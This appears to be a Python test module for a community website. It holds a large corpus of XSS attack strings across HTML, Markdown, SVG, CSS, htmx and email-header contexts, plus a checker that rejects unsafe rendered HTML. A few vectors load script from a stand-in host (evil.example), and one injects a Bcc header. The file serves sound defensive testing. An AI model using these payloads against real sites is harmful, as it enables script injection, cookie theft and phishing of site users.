"""A corpus of XSS attack strings, and one checker for HTML made from user text.

Every path that turns member-written text into HTML (Markdown bodies, bios,
titles, search snippets, e-mails, ...) should be tested with::

    from tests.cop_site.xss_vectors import XSS_PARAMS, assert_html_is_safe

    @pytest.mark.parametrize("payload", XSS_PARAMS)
    def test_...(payload):
        assert_html_is_safe(html_made_from(payload))

``XSS_VECTORS`` is a list of ``(id, payload)`` tuples; ``XSS_PARAMS`` is the
same as ``pytest.param`` objects with readable ids.

``assert_html_is_safe`` checks a *fragment* rendered from user text, not a whole
page (a page has its own <script>, <form> and un-rel'd links); tests/security/xss_checks.py
checks whole pages, feeds and emails.

Wherever a vector can run script it calls ``alert(window.__xss=...)``: a browser test
knows an injection ran either by the dialog or by ``window[MARKER]`` being set.
"""

import html
import re

import pytest
from bs4 import BeautifulSoup

MARKER = "__xss"  # the window property a vector sets when it runs

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

XSS_VECTORS = [
    # --- <script> in every shape -------------------------------------------------
    ("script-plain", "<script>alert(window.__xss=1)</script>"),
    ("script-upper", "<SCRIPT>alert(window.__xss=1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(window.__xss=1)</sCrIpT>"),
    ("script-nested", "<scr<script>ipt>alert(window.__xss=1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(window.__xss=1)"),
    ("script-src-attr", '<script src="https://evil.example/x.js"></script>'),
    ("script-src-slash", "<script/src=//evil.example/x.js></script>"),
    ("script-type-module", '<script type="module">import("//evil.example")</script>'),
    ("script-formfeed", "<script\x0c>alert(window.__xss=1)</script>"),
    ("script-newline-in-tag", "<script\n>alert(window.__xss=1)</script\n>"),
    ("script-nul-in-name", "<scr\x00ipt>alert(window.__xss=1)</scr\x00ipt>"),
    ("script-double-open", "<<script>alert(window.__xss=1);//<</script>"),
    ("script-break-out", "</script><script>alert(window.__xss=1)</script>"),
    ("script-mid-sentence", "Hello <script>alert(window.__xss=document.cookie)</script> world"),
    ("script-in-markdown-emphasis", "*<script>alert(window.__xss=1)</script>*"),
    ("script-long-s", "<ſcript>alert(window.__xss=1)</ſcript>"),
    ("script-fullwidth", "＜script＞alert(window.__xss=1)＜/script＞"),
    # --- event handlers ------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(window.__xss=1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(window.__xss=1)">'),
    ("img-slashes", "<img/src/onerror=alert(window.__xss=1)>"),
    ("img-onerror-backtick", "<img src=`x`onerror=alert(window.__xss=1)>"),
    ("svg-onload", "<svg onload=alert(window.__xss=1)>"),
    ("svg-slash-onload", "<svg/onload=alert(window.__xss=1)>"),
    ("body-onload", "<body onload=alert(window.__xss=1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(window.__xss=1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(window.__xss=1)>"),
    ("select-autofocus", "<select autofocus onfocus=alert(window.__xss=1)></select>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(window.__xss=1)></textarea>"),
    ("a-onmouseover", '<a href="https://example.com" onmouseover="alert(window.__xss=1)">hover</a>'),
    ("div-onpointerenter", '<div onpointerenter="alert(window.__xss=1)">x</div>'),
    ("video-source-onerror", "<video><source onerror=alert(window.__xss=1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(window.__xss=1)>"),
    ("video-poster-js", '<video poster="javascript:alert(window.__xss=1)"></video>'),
    ("marquee-onstart", "<marquee onstart=alert(window.__xss=1)>x</marquee>"),
    ("allowed-tag-onclick", '<p onclick="alert(window.__xss=1)">click</p>'),
    ("allowed-tag-b-onmouseover", "<b onmouseover=alert(window.__xss=1)>bold</b>"),
    ("allowed-img-onerror", '<img src="https://example.com/a.png" onerror="alert(window.__xss=1)">'),
    ("allowed-td-onclick", "<table><tr><td onclick=alert(window.__xss=1)>x</td></tr></table>"),
    ("onerror-uppercase", "<IMG SRC=x ONERROR=alert(window.__xss=1)>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(window.__xss=1)>"),
    # --- dangerous URLs as raw HTML -------------------------------------------------
    ("html-a-javascript", '<a href="javascript:alert(window.__xss=1)">x</a>'),
    ("html-a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(window.__xss=1)">x</a>'),
    ("html-a-entity-decimal", '<a href="&#106;avascript:alert(window.__xss=1)">x</a>'),
    ("html-a-entity-hex", '<a href="&#x6A;avascript:alert(window.__xss=1)">x</a>'),
    ("html-a-entity-no-semicolon", '<a href="&#0000106&#0000097vascript:alert(window.__xss=1)">x</a>'),
    ("html-a-tab", '<a href="jav\tascript:alert(window.__xss=1)">x</a>'),
    ("html-a-leading-space", '<a href=" javascript:alert(window.__xss=1)">x</a>'),
    ("html-a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("html-a-data", '<a href="data:text/html;base64,' + B64_SCRIPT + '">x</a>'),
    ("html-img-src-javascript", '<img src="javascript:alert(window.__xss=1)">'),
    ("html-img-src-data", '<img src="data:image/svg+xml;base64,' + B64_SVG + '">'),
    ("html-a-target-blank", '<a href="https://example.com" target="_blank">tab</a>'),
    # --- dangerous URLs as Markdown links ------------------------------------------
    ("md-link-javascript", "[x](javascript:alert(window.__xss=1))"),
    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(window.__xss=1))"),
    ("md-link-javascript-mixed", "[x](JaVaScRiPt:alert(window.__xss=1))"),
    ("md-link-leading-space", "[x]( javascript:alert(window.__xss=1))"),
    ("md-link-many-spaces", "[x](    javascript:alert(window.__xss=1))"),
    ("md-link-angle-dest", "[x](<javascript:alert(window.__xss=1)>)"),
    ("md-link-entity-decimal", "[x](&#106;avascript:alert(window.__xss=1))"),
    ("md-link-entity-hex", "[x](&#x6A;avascript:alert(window.__xss=1))"),
    ("md-link-entity-hex-upper", "[x](&#X6a;&#X61;vascript:alert(window.__xss=1))"),
    ("md-link-entity-padded", "[x](&#0000106;avascript:alert(window.__xss=1))"),
    ("md-link-entity-colon", "[x](javascript&colon;alert(window.__xss=1))"),
    ("md-link-entity-colon-numeric", "[x](javascript&#58;alert(window.__xss=1))"),
    ("md-link-entity-tab", "[x](java&Tab;script:alert(window.__xss=1))"),
    ("md-link-entity-newline", "[x](jav&#x0A;ascript:alert(window.__xss=1))"),
    ("md-link-tab", "[x](java\tscript:alert(window.__xss=1))"),
    ("md-link-newline", "[x](java\nscript:alert(window.__xss=1))"),
    ("md-link-cr", "[x](java\rscript:alert(window.__xss=1))"),
    ("md-link-nul", "[x](java\x00script:alert(window.__xss=1))"),
    ("md-link-nul-after-colon", "[x](javascript:\x00alert(window.__xss=1))"),
    ("md-link-leading-control", "[x](\x01\x02javascript:alert(window.__xss=1))"),
    ("md-link-percent-encoded", "[x](%6Aavascript:alert(window.__xss=1))"),
    ("md-link-percent-colon", "[x](javascript%3Aalert(window.__xss=1))"),
    ("md-link-backslash", r"[x](\javascript:alert(window.__xss=1))"),
    ("md-link-escaped-colon", r"[x](javascript\:alert(window.__xss=1))"),
    ("md-link-slashes-newline", "[x](javascript://%0Aalert(window.__xss=1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-livescript", "[x](livescript:alert(window.__xss=1))"),
    ("md-link-data-html", "[x](data:text/html,<script>alert(window.__xss=1)</script>)"),
    ("md-link-data-base64", "[x](data:text/html;base64," + B64_SCRIPT + ")"),
    ("md-link-feed-javascript", "[x](feed:javascript:alert(window.__xss=1))"),
    ("md-link-with-title", '[x](javascript:alert(window.__xss=1) "title")'),
    ("md-link-unicode-escape", "[x](javascript\u200b:alert(window.__xss=1))"),
    ("md-ref-javascript", "[x][1]\n\n[1]: javascript:alert(window.__xss=1)"),
    ("md-ref-javascript-title", '[x][a]\n\n[a]: javascript:alert(window.__xss=1) "t"'),
    ("md-ref-angle", "[x][1]\n\n[1]: <javascript:alert(window.__xss=1)>"),
    ("md-ref-implicit", "[evil][]\n\n[evil]: JavaScript:alert(window.__xss=1)"),
    ("md-ref-data", "[x][d]\n\n[d]: data:text/html;base64," + B64_SCRIPT),
    ("md-nested-links", "[[x](javascript:alert(window.__xss=1))](https://example.com)"),
    ("md-image-in-js-link", "[![img](javascript:alert(window.__xss=1))](javascript:alert(window.__xss=2))"),
    # --- autolinks and bare URLs ---------------------------------------------------
    ("autolink-javascript", "<javascript:alert(window.__xss=1)>"),
    ("autolink-javascript-upper", "<JAVASCRIPT:alert(window.__xss=1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(window.__xss=1)</script>>"),
    ("autolink-quote-breakout", '<http://example.com/" onmouseover="alert(window.__xss=1)>'),
    ("autolink-script-in-path", "<http://example.com/<script>alert(window.__xss=1)</script>>"),
    ("autolink-mailto-script", "<mailto:a@example.com?body=<script>alert(window.__xss=1)</script>>"),
    ("bare-javascript", "javascript:alert(window.__xss=1)"),
    ("bare-javascript-slashes", "javascript://example.com/%0Aalert(window.__xss=1)"),
    ("bare-data-slashes", "data://example.com/x"),
    ("bare-url-quote-breakout", 'http://example.com/"onmouseover="alert(window.__xss=1)'),
    ("bare-url-img-in-query", "https://example.com/?q=<img src=x onerror=alert(window.__xss=1)>"),
    ("bare-www-script", "www.example.com/<script>alert(window.__xss=1)</script>"),
    # --- Markdown images -----------------------------------------------------------
    ("md-img-javascript", "![x](javascript:alert(window.__xss=1))"),
    ("md-img-data-html", "![x](data:text/html;base64," + B64_SCRIPT + ")"),
    ("md-img-data-svg", "![x](data:image/svg+xml;base64," + B64_SVG + ")"),
    ("md-img-data-leading-space", "![x](  data:image/png;base64,iVBORw0KGgo=)"),
    ("md-img-vbscript", "![x](vbscript:msgbox(1))"),
    ("md-img-title-onerror", '![x](http://a "onerror=alert(window.__xss=1)")'),
    ("md-img-alt-breakout", '![x"onerror="alert(window.__xss=1)](http://a)'),
    ("md-img-src-breakout", '![x](http://a/"onerror="alert(window.__xss=1))'),
    ("md-img-alt-script", "![<script>alert(window.__xss=1)</script>](https://example.com/a.png)"),
    ("md-img-ref-javascript", "![x][i]\n\n[i]: javascript:alert(window.__xss=1)"),
    ("md-img-entity-javascript", "![x](&#106;avascript:alert(window.__xss=1))"),
    # --- breaking out of Markdown link titles ----------------------------------------
    ("md-title-double-quote", '[a](http://x "\\" onmouseover=alert(window.__xss=1) \\"")'),
    ("md-title-raw-double-quote", '[a](http://x "" onmouseover=alert(window.__xss=1) "")'),
    ("md-title-single-quote", "[a](http://x 'a\\' onmouseover=alert(window.__xss=1)')"),
    ("md-title-parens", '[a](http://x (") onmouseover=alert(window.__xss=1) x="))'),
    ("md-href-double-quote", '[a](http://x" onmouseover="alert(window.__xss=1))'),
    ("md-href-single-quote", "[a](http://x'onmouseover='alert(window.__xss=1))"),
    ("md-href-entity-quote", "[a](http://x&quot;onmouseover=alert(window.__xss=1))"),
    ("md-title-entity-quote", '[a](http://x "t&quot; onmouseover=&quot;alert(window.__xss=1)")'),
    ("md-img-src-entity-quote", "![a](http://x&#34;onerror=alert(window.__xss=1))"),
    ("md-link-text-html", "[<img src=x onerror=alert(window.__xss=1)>](https://example.com)"),
    # --- SVG and MathML ------------------------------------------------------------
    ("svg-script", "<svg><script>alert(window.__xss=1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(window.__xss=1)"><text x="20" y="20">x</text></a></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName="href" values="javascript:alert(window.__xss=1)"/><text>x</text></a></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(window.__xss=1)></iframe></foreignObject></svg>"),
    ("svg-set-onbegin", "<svg><set onbegin=alert(window.__xss=1) attributeName=x></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,' + B64_SVG + '#x"/></svg>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(window.__xss=1)>"),
    ("math-href", '<math href="javascript:alert(window.__xss=1)">click</math>'),
    ("math-maction", '<math><maction actiontype="statusline#" xlink:href="javascript:alert(window.__xss=1)">x</maction></math>'),
    ("svg-style-breakout", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(window.__xss=1)>\">"),
    # --- CSS ---------------------------------------------------------------------
    ("style-import", "<style>@import 'javascript:alert(window.__xss=1)';</style>"),
    ("style-url-javascript", '<style>body{background:url("javascript:alert(window.__xss=1)")}</style>'),
    ("style-attr-expression", '<div style="width:expression(alert(window.__xss=1))">x</div>'),
    ("style-attr-url", '<p style="background:url(javascript:alert(window.__xss=1))">x</p>'),
    ("style-attr-comment-expression", '<img style="xss:expr/**/ession(alert(window.__xss=1))">'),
    ("style-attr-behavior", '<p style="behavior:url(x.htc)">x</p>'),
    ("style-attr-overlay", '<p style="position:fixed;top:0;left:0;width:100%;height:100%">phish</p>'),
    # --- embedding, forms, and document-level tags --------------------------------------
    ("iframe-javascript", '<iframe src="javascript:alert(window.__xss=1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(window.__xss=1)</script>"></iframe>'),
    ("frameset", "<frameset><frame src=javascript:alert(window.__xss=1)></frameset>"),
    ("object-data", '<object data="javascript:alert(window.__xss=1)"></object>'),
    ("object-base64", '<object data="data:text/html;base64,' + B64_SCRIPT + '"></object>'),
    ("embed-src", '<embed src="javascript:alert(window.__xss=1)">'),
    ("applet", '<applet code="javascript:alert(window.__xss=1)"></applet>'),
    ("form-action", '<form action="javascript:alert(window.__xss=1)"><input type=submit></form>'),
    ("button-formaction", '<form><button formaction="javascript:alert(window.__xss=1)">go</button></form>'),
    ("input-formaction", '<input type="image" formaction="javascript:alert(window.__xss=1)" src="x">'),
    ("isindex-action", '<isindex action="javascript:alert(window.__xss=1)" type=image>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(window.__xss=1)">'),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,' + B64_SCRIPT + '">'),
    ("base-href", '<base href="javascript:alert(window.__xss=1)//">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(window.__xss=1)">'),
    ("template-tag", "<template><script>alert(window.__xss=1)</script></template>"),
    ("portal-tag", '<portal src="https://evil.example"></portal>'),
    # --- encoded and malformed tags ---------------------------------------------------
    ("double-angle", "<<script>>alert(window.__xss=1)<</script>>"),
    ("img-triple-quote", '<img """><script>alert(window.__xss=1)</script>">'),
    ("comment-script", "<!--<script>alert(window.__xss=1)</script>-->"),
    ("comment-early-close", "<!--><script>alert(window.__xss=1)</script>-->"),
    ("comment-bang-close", "<!-- --!><script>alert(window.__xss=1)</script>"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(window.__xss=1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(window.__xss=1)</script>]]>"),
    ("cdata-unclosed", "<![CDATA[><img src=x onerror=alert(window.__xss=1)>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(window.__xss=1)</script>'),
    ("img-unclosed", "<img src=x onerror=alert(window.__xss=1)//"),
    ("a-unclosed", '<a href="javascript:alert(window.__xss=1)"'),
    ("close-title", "</title><script>alert(window.__xss=1)</script>"),
    ("close-textarea", "</textarea><script>alert(window.__xss=1)</script>"),
    ("noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(window.__xss=1)>">'),
    ("attr-breakout-double", '"><script>alert(window.__xss=1)</script>'),
    ("attr-breakout-single", "'><img src=x onerror=alert(window.__xss=1)>"),
    ("attr-breakout-no-space", '"autofocus onfocus="alert(window.__xss=1)"x="'),
    ("attr-breakout-single-handler", "' onmouseover='alert(window.__xss=1)' x='"),
    ("attr-breakout-unquoted", "x onmouseover=alert(window.__xss=1) x"),
    ("unknown-tag-onxxx", "<x onxxx=alert(window.__xss=1) 1='"),
    ("entity-encoded-tags", "&lt;script&gt;alert(window.__xss=1)&lt;/script&gt;"),
    ("numeric-entity-tags", "&#60;script&#62;alert(window.__xss=1)&#60;/script&#62;"),
    ("xmp-plaintext", "<xmp><script>alert(window.__xss=1)</script></xmp><plaintext><script>"),
    # --- HTML inside Markdown constructs ------------------------------------------------
    ("fenced-code-html", "```html\n<script>alert(window.__xss=1)</script>\n<img src=x onerror=alert(window.__xss=1)>\n```"),
    ("fenced-code-close-pre", "```\n</code></pre><script>alert(window.__xss=1)</script>\n```"),
    ("fenced-code-lang-breakout", '```"><script>alert(window.__xss=1)</script>\nx\n```'),
    ("fenced-code-lang-onclick", "``` {.x onclick=alert(window.__xss=1)}\nx\n```"),
    ("indented-code-html", "    <script>alert(window.__xss=1)</script>"),
    ("inline-code-html", "Use `<img src=x onerror=alert(window.__xss=1)>` carefully"),
    ("table-cell-html", "| a | b |\n|---|---|\n| <script>alert(window.__xss=1)</script> | <img src=x onerror=alert(window.__xss=1)> |"),
    ("table-header-html", "| <svg onload=alert(window.__xss=1)> | b |\n|---|---|\n| 1 | 2 |"),
    ("table-cell-md-link", "| a |\n|---|\n| [x](javascript:alert(window.__xss=1)) |"),
    ("blockquote-html", "> <script>alert(window.__xss=1)</script>\n> <iframe src=javascript:alert(window.__xss=1)>"),
    ("list-item-html", "- <img src=x onerror=alert(window.__xss=1)>\n    1. <svg/onload=alert(window.__xss=1)>"),
    ("heading-html", "# <script>alert(window.__xss=1)</script>"),
    ("html-block-markdown", "<div>\n\n[x](javascript:alert(window.__xss=1))\n\n</div>"),
    # --- htmx attributes (the site loads htmx: its attributes in user text would fetch and swap) ----
    ("htmx-get-on-load", '<div hx-get="/accounts/email/" hx-trigger="load" hx-swap="outerHTML">x</div>'),
    ("htmx-on-click", '<button hx-on:click="alert(window.__xss=1)">go</button>'),
    ("htmx-data-prefixed", '<a data-hx-post="/accounts/logout/" data-hx-trigger="mouseover">hover</a>'),
    ("htmx-vals-js", '<div hx-post="/" hx-vals="js:{a: alert(window.__xss=1)}" hx-trigger="load">x</div>'),
    # --- plain-text contexts: titles, names, headers ---------------------------------------
    ("header-injection", "Hello\r\nBcc: evil@example.org\r\n\r\n<script>alert(window.__xss=1)</script>"),
    ("json-breakout", '"}];alert(window.__xss=1);//</script>'),
    ("line-separators", "a\u2028b\u2029</script><script>alert(window.__xss=1)</script>"),
    # --- Markdown placeholder injection ------------------------------------------------
    ("md-placeholder-stash", "\x02wzxhzdk:0\x03<script>alert(window.__xss=1)</script>"),
    ("md-placeholder-inline", "\x02klzzwxh:0000\x03 <img src=x onerror=alert(window.__xss=1)>"),
    ("md-placeholder-after-code", "`<b>`\n\n\x02wzxhzdk:0\x03"),
    # --- Markdown parser overflow (falls back to escaped text) --------------------------
    ("deep-nesting-fallback", "- " * 1000 + "<script>alert(window.__xss=1)</script> [x](javascript:alert(window.__xss=1)) https://example.com"),
    # --- template injection (must come out literally) ----------------------------------
    ("template-django-var", "{{ 7*7 }}"),
    ("template-django-tag", "{% load static %}{% debug %}"),
    ("template-dollar", "${7*7}"),
    ("template-erb", "<%= 7*7 %>"),
    ("template-angular", "{{constructor.constructor('alert(window.__xss=1)')()}}"),
]

XSS_PARAMS = [pytest.param(payload, id=name) for name, payload in XSS_VECTORS]

# At least one vector of every kind above, for tests where each vector costs whole page loads (every form a member
# fills in, every page that shows it, a browser): plain-text escaping, Markdown, rich text and the echo of a
# query are each broken by one of these if by any. The whole corpus goes through render_markdown itself.
SAMPLE_NAMES = [
    "script-plain", "script-nested", "script-nul-in-name", "script-break-out",
    "img-onerror", "svg-onload", "details-ontoggle", "input-autofocus", "allowed-img-onerror",
    "html-a-javascript", "html-a-entity-no-semicolon",
    "md-link-javascript", "md-link-entity-hex", "md-ref-javascript", "md-image-in-js-link",
    "autolink-javascript", "autolink-quote-breakout", "bare-url-quote-breakout",
    "md-img-alt-breakout", "md-title-double-quote",
    "svg-foreignobject", "math-mglyph-style", "style-attr-overlay", "iframe-srcdoc", "meta-refresh",
    "comment-early-close", "close-textarea", "noscript-title",
    "attr-breakout-double", "attr-breakout-single", "attr-breakout-no-space", "attr-breakout-unquoted",
    "fenced-code-close-pre", "table-cell-html", "htmx-get-on-load", "htmx-on-click",
    "header-injection", "line-separators", "md-placeholder-stash", "deep-nesting-fallback", "template-django-var",
]
SAMPLE = [(name, dict(XSS_VECTORS)[name]) for name in SAMPLE_NAMES]

# Elements that must never come out of user text as real elements (escaped text is fine).
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "svg", "math", "form", "input", "button", "textarea", "select", "isindex",
        "meta", "base", "link", "template", "portal", "xmp", "plaintext", "noscript",
    }
)  # fmt: skip
FORBIDDEN_ATTRIBUTES = frozenset({"style", "srcdoc", "target"})
# htmx acts on these wherever they appear, with or without the data- prefix.
FORBIDDEN_ATTRIBUTE_PREFIXES = ("hx-", "data-hx-")
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest", "codebase", "srcset",
    }
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
REQUIRED_REL = frozenset({"nofollow", "ugc", "noopener"})

_URL_JUNK = re.compile(r"[`\x00-\x20\x7f-\xa0\s]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_RAW_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][^\s/>]*)")


def url_scheme(value):
    """The scheme a browser would act on, or None for a relative URL / anchor."""
    normalized = _URL_JUNK.sub("", html.unescape(value)).lower()
    match = _SCHEME.match(normalized)
    return match.group(1) if match else None


def assert_html_is_safe(fragment):
    """Assert that HTML rendered from user text can't run script or restyle the page.

    Checks the raw string (parser-independent) and the parsed tree:
    no forbidden elements, no comments/CDATA/processing instructions, no on*
    handlers, no style/srcdoc/target/htmx attributes, only http/https/mailto or
    relative URLs, and rel="nofollow ugc noopener" on every link.
    """
    fragment = str(fragment)
    for match in _RAW_TAG.finditer(fragment):
        assert match.group(1).lower() not in FORBIDDEN_ELEMENTS, f"raw <{match.group(1)}> tag in {fragment!r}"
    assert "<!" not in fragment and "<?" not in fragment, f"comment/CDATA/PI markup in {fragment!r}"

    soup = BeautifulSoup(fragment, "html.parser")
    for element in soup.find_all(True):
        name = element.name.lower()
        assert name not in FORBIDDEN_ELEMENTS, f"<{name}> element in {fragment!r}"
        for attr, value in element.attrs.items():
            attr = attr.lower()
            value = " ".join(value) if isinstance(value, list) else value
            assert not attr.startswith("on"), f"event handler {attr}= on <{name}> in {fragment!r}"
            assert attr not in FORBIDDEN_ATTRIBUTES, f"{attr}= on <{name}> in {fragment!r}"
            assert not attr.startswith(FORBIDDEN_ATTRIBUTE_PREFIXES), f"htmx {attr}= on <{name}> in {fragment!r}"
            if attr in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{attr}={value!r} on <{name}> in {fragment!r}"
        if name == "a":
            rel = element.get("rel") or []
            rel = set(rel.split() if isinstance(rel, str) else rel)
            assert REQUIRED_REL <= rel, f"<a> without rel={' '.join(sorted(REQUIRED_REL))!r} in {fragment!r}"
